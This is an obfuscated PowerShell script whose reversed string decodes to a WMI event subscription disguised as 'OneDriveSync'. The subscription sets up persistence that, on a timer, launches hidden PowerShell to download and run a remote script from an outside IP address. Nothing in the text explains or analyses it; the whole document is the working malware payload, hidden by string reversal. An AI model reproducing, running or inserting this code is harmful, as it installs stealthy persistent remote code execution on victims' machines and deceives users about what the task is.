$xutwp='
}remusnoc$=remusnoC;retlif$=retliF{@ stnemugrA- gnidniBremusnoCoTretliF__ ssalC- noitpircsbus\toor ecapsemaN- ecnatsnIimW-teS
}")''1sp.a/9.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI c- neddiH W- PoN- exe.llehsrewop"=etalpmeTeniLdnammoC;''cnySevirDenO''=emaN{@ stnemugrA- remusnoCtnevEeniLdnammoC ssalC- noitpircsbus\toor ecapsemaN- ecnatsnIimW-teS = remusnoc$
}"''metsyS_SOfreP_ataDdettamroFfreP_23niW'' ASI ecnatsnItegraT EREHW 06 NIHTIW tnevEnoitacifidoMecnatsnI__ MORF * TCELES"=yreuQ;''LQW''=egaugnaLyreuQ;''2vmic\toor''=ecapSemaNtnevE;''cnySevirDenO''=emaN{@ stnemugrA- retliFtnevE__ ssalC- noitpircsbus\toor ecapsemaN- ecnatsnIimW-teS = retlif$
1v 3669 ksat #'; iex (-join $xutwp[-1..-($xutwp.Length)])